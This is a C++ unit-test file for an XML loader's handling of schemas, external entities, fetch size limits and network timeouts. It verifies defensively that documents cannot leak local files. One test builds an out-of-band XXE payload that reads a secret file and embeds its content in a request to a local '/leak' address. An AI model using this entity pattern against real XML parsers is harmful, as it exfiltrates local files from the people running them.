// SPDX-License-Identifier: MIT
// What a document may make the loader read besides itself: schemas only to
// validate, and then only where the document may read; nothing ever sent to
// a server that the document built from another file's content; and what a
// server may do to a load of a document at an address. The servers are local
// ones the tests start; they count what reaches them.
#include <gtest/gtest.h>

#include <chrono>
#include <string>

#include "load/external_entities.h"
#include "model/element_record.h"
#include "platform/notifier.h"
#include "platform/utf8.h"
#include "settings/options.h"
#include "support/load_xml.h"
#include "support/local_server.h"

namespace quillon::test {
namespace {

constexpr const char* kSchema =
    "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:p' elementFormDefault='qualified'>"
    "<xs:element name='project'><xs:complexType><xs:sequence>"
    "<xs:element name='version' type='xs:decimal'/>"
    "</xs:sequence></xs:complexType></xs:element></xs:schema>";

// A project file that names its schema, as Maven's do.
std::string project(const std::string& schema, const std::string& version = "1.0") {
    return "<project xmlns='urn:p' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
           "xsi:schemaLocation='urn:p " + schema + "'><version>" + version + "</version></project>";
}

struct ExternalReads : ::testing::Test {
    void SetUp() override { ResetOptions(options(), false); }
    void TearDown() override { ResetOptions(options(), false); }
    DocumentPane pane;
    RecordingNotifier quiet;
    ScopedNotifier scoped{quiet};
};

TEST_F(ExternalReads, SchemasAreReadOnlyToValidateAndAMissingOneIsANotice) {
    LocalServer server(HttpReply(kSchema));
    const std::string remote = server.address("/p.xsd");
    const std::string local = WriteTempFile(kSchema, ".xsd");
    const std::string broken = WriteTempFile("not a schema", ".xsd");
    constexpr std::uint32_t kAuto = 0, kNever = 1, kAlways = 2;
    const struct {
        std::uint32_t validation;
        std::string schema, version;
        bool notice, errors;
    } cases[] = {
        // Without validation no schema is read, wherever it is and whatever it holds.
        {kNever, remote, "1.0", false, false},
        {kNever, broken, "1.0", false, false},
        // A local document does not go to the network for its schema, and
        // one that is not there is not a failure.
        {kAuto, remote, "1.0", true, false},
        {kAlways, "/nonexistent/p.xsd", "1.0", true, false},
        // A local schema validates.
        {kAuto, local, "x", false, true},
        {kAlways, local, "1.0", false, false},
    };
    for (const auto& c : cases) {
        options().SchemaValidation = c.validation;
        const LoadResult r = LoadXml(pane, project(c.schema, c.version));
        const std::string what = std::to_string(c.validation) + " " + c.schema;
        ASSERT_TRUE(r.ok) << what << ": " << ToUtf8(r.message);
        EXPECT_EQ(r.elementCount, 2u) << what;
        EXPECT_EQ(r.notice.find(kSchemaNotRead) != std::u16string::npos, c.notice) << what << ": " << ToUtf8(r.notice);
        EXPECT_EQ(r.errorSeen, c.errors) << what;
    }
    EXPECT_TRUE(server.requests().empty());
}

// The document type's parameter entities follow the rules of entities,
// also when the DTD is read to validate: a module is read only with
// ResolveEntities on. And whatever reads, no address made up of another
// file's text is asked for.
TEST_F(ExternalReads, ParameterEntitiesAreEntitiesAndNoAddressIsMadeOfReadText) {
    LocalServer server(HttpReply("<!ENTITY z 'z'>"));
    const std::string secret = WriteTempFile("TOPSECRET-38", ".txt");
    // The out-of-band pattern: the secret goes into an entity's value, and
    // that value declares an entity whose address carries it.
    const std::string outOfBand =
        "<!ENTITY % d SYSTEM 'file://" + secret + "'>"
        "<!ENTITY % c \"<!ENTITY &#37; e SYSTEM '" + server.address("/leak?d=") + "%d;'>\">%c;%e;";
    // Two modules, each declaring an entity the content uses.
    const std::string module1 = WriteTempFile("<!ENTITY a 'A'>", ".ent");
    const std::string module2 = WriteTempFile("<!ENTITY b 'B'>", ".ent");
    const std::string modular = "<!ENTITY % m1 SYSTEM '" + module1 + "'>%m1;<!ENTITY % m2 SYSTEM '" + module2 + "'>%m2;";
    const std::string leakDtd = WriteTempFile(outOfBand, ".dtd");
    const std::string modularDtd = WriteTempFile(modular, ".dtd");
    const struct {
        std::string dtd;
        std::uint8_t resolve;
        std::uint32_t validation;
        std::string text;
    } cases[] = {
        {leakDtd, 0, 0, "x"},
        {leakDtd, 1, 0, "x"},
        {leakDtd, 1, 2, "x"},
        {modularDtd, 1, 0, "x AB"},
        {modularDtd, 0, 0, "x"},
    };
    for (const auto& c : cases) {
        options().ResolveEntities = c.resolve;
        options().SchemaValidation = c.validation;
        const LoadResult r = LoadXml(pane, "<!DOCTYPE r SYSTEM '" + c.dtd + "'><r>x &a;&b;</r>");
        const std::string what = c.dtd + " resolve " + std::to_string(c.resolve);
        ASSERT_TRUE(r.ok) << what << ": " << ToUtf8(r.message);
        EXPECT_EQ(TextOf(pane).substr(0, c.text.size()), c.text) << what;
        EXPECT_EQ(TextOf(pane).find("TOPSECRET"), std::string::npos);
    }
    // A document from the network may read local files with ResolveEntities
    // on, but not send them anywhere.
    std::string site;
    LocalServer origin([&](const std::string& path) {
        return HttpReply(path == "/doc.xml" ? "<!DOCTYPE r SYSTEM '" + site + "/t.dtd'><r>x</r>" : outOfBand);
    });
    site = origin.address("");
    options().ResolveEntities = 1;
    options().SchemaValidation = 0;
    const LoadResult r = LoadFile(pane, origin.address("/doc.xml"));
    EXPECT_TRUE(r.ok) << ToUtf8(r.message);
    EXPECT_EQ(r.notice.find(u"TOPSECRET"), std::u16string::npos);
    EXPECT_EQ(origin.requests().size(), 2u);
    EXPECT_TRUE(server.requests().empty());
}

// A document from the network: an error status fails its load; it reads
// its schema there, and one that cannot be had is a notice; what a fetch
// brings has a bound: the document type of a 60-byte document holds no more
// than the least any document's entities may produce; and a server that
// never answers, or answers a few bytes a second, is left at the deadline of
// the whole fetch.
TEST_F(ExternalReads, DocumentsFromTheNetwork) {
    Reply silent, trickle = HttpReply("<r>" + std::string(20, 'x') + "</r>");
    silent.silent = true;
    trickle.atOnce = trickle.bytes.find("<r>");  // the headers
    trickle.bytesPerSecond = 4;
    std::string site;
    LocalServer server([&](const std::string& path) {
        if (path == "/p.xml") return HttpReply(project(site + "/p.xsd", "x"));
        if (path == "/q.xml") return HttpReply(project(site + "/gone.xsd", "x"));
        if (path == "/p.xsd") return HttpReply(kSchema);
        // A comment of 8 MB in all, and of one byte more.
        if (path == "/full.dtd" || path == "/over.dtd")
            return HttpReply("<!--" + std::string((8 << 20) - 7 + (path == "/over.dtd"), 'x') + "-->");
        if (path == "/silent.xml") return silent;
        if (path == "/slow.xml") return trickle;
        return HttpReply("<error>no such page</error>", "404 Not Found");
    });
    site = server.address("");
    options().SchemaValidation = 0;  // when the document names a schema
    LoadResult r = LoadFile(pane, server.address("/missing.xml"));
    EXPECT_FALSE(r.ok);
    EXPECT_NE(r.message.find(u"404"), std::u16string::npos);
    for (const bool found : {true, false}) {
        r = LoadFile(pane, server.address(found ? "/p.xml" : "/q.xml"));
        ASSERT_TRUE(r.ok) << ToUtf8(r.message);
        EXPECT_EQ(r.elementCount, 2u);
        EXPECT_EQ(r.errorSeen, found);  // "x" is no decimal
        EXPECT_EQ(r.notice.empty(), found) << ToUtf8(r.notice);
    }
    EXPECT_TRUE(LoadXml(pane, "<!DOCTYPE r SYSTEM '" + site + "/full.dtd'><r/>").ok);
    r = LoadXml(pane, "<!DOCTYPE r SYSTEM '" + site + "/over.dtd'><r/>");
    EXPECT_FALSE(r.ok);
    EXPECT_NE(r.message.find(u"larger than 8 MB"), std::u16string::npos);
    options().NetworkTimeout = 1;
    for (const char* slow : {"/silent.xml", "/slow.xml"}) {
        const auto start = std::chrono::steady_clock::now();
        r = LoadFile(pane, server.address(slow));
        EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(4)) << slow;
        EXPECT_FALSE(r.ok);
        EXPECT_NE(r.message.find(u"no complete answer within 1 seconds"), std::u16string::npos) << ToUtf8(r.message);
    }
}

}  // namespace
}  // namespace quillon::test
